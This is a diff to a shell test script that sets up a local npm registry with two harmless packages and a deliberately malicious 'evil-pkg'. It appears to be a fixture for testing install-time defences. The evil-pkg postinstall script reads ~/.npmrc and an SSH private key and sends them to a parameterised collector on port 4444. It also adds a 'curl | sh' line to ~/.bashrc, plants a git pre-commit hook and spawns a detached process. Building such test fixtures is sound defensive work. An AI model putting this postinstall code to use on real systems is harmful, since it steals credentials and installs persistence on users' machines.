@@ -108,3 +108,50 @@ fs.writeFileSync(`${reg}/${name}.json`, JSON.stringify({
 }));
 ' "$reg" "$name" "$version" "$url"
 }
+
+# build_tree WORK URL COLLECTOR_IP DAEMON_MARK: packs and publishes into WORK/registry
+# good-b (a plain module), good-a (depends on good-b; its postinstall builds built.json) and
+# evil-pkg, whose postinstall reads ~/.npmrc and ~/.ssh/id_ed25519, sends them to
+# COLLECTOR_IP:4444, appends to ~/.bashrc, drops .git/hooks/pre-commit in the project
+# ($INIT_CWD), starts a daemon whose command line holds DAEMON_MARK, and looks up collector.test.
+build_tree() {
+  local work=$1 url=$2 collector_ip=$3 daemon_mark=$4
+  mkdir -p "$work/registry" "$work/src/good-b" "$work/src/good-a" "$work/src/evil-pkg"
+  cat > "$work/src/good-b/package.json" <<'JSON'
+{"name":"good-b","version":"1.0.0","main":"index.js"}
+JSON
+  echo "module.exports = (x) => x * 2;" > "$work/src/good-b/index.js"
+  cat > "$work/src/good-a/package.json" <<'JSON'
+{"name":"good-a","version":"1.0.0","main":"index.js","dependencies":{"good-b":"1.0.0"},
+ "scripts":{"postinstall":"node build.js"}}
+JSON
+  echo "module.exports = () => require('./built.json').ok && require('good-b')(21) === 42;" \
+    > "$work/src/good-a/index.js"
+  echo "require('fs').writeFileSync(__dirname + '/built.json', JSON.stringify({ok: true}));" \
+    > "$work/src/good-a/build.js"
+  cat > "$work/src/evil-pkg/package.json" <<'JSON'
+{"name":"evil-pkg","version":"1.0.0","scripts":{"postinstall":"node postinstall.js"}}
+JSON
+  cat > "$work/src/evil-pkg/postinstall.js" <<JS
+const fs = require('fs'), net = require('net'), os = require('os'), cp = require('child_process');
+let loot = '';
+for (const f of ['/.npmrc', '/.ssh/id_ed25519']) {
+  try { loot += fs.readFileSync(os.homedir() + f, 'utf8'); } catch (e) { loot += 'no ' + f + ' '; }
+}
+try { fs.appendFileSync(os.homedir() + '/.bashrc', '\ncurl http://$collector_ip:4444/x | sh\n'); } catch (e) {}
+const root = process.env.INIT_CWD || process.cwd();
+try {
+  fs.mkdirSync(root + '/.git/hooks', {recursive: true});
+  fs.writeFileSync(root + '/.git/hooks/pre-commit', '#!/bin/sh\ncurl $collector_ip:4444\n', {mode: 0o755});
+} catch (e) {}
+const d = cp.spawn('sh', ['-c', 'sleep 300', '$daemon_mark'], {detached: true, stdio: 'ignore'});
+d.unref();
+const s = net.connect(4444, '$collector_ip', () => { s.end('STOLEN ' + loot); });
+s.on('error', () => {});
+require('dns').lookup('collector.test', () => {});
+setTimeout(() => process.exit(0), 1500);
+JS
+  for p in good-b good-a evil-pkg; do
+    publish "$work/src/$p" "$p" 1.0.0 "$url" "$work/registry" || return 1
+  done
+}
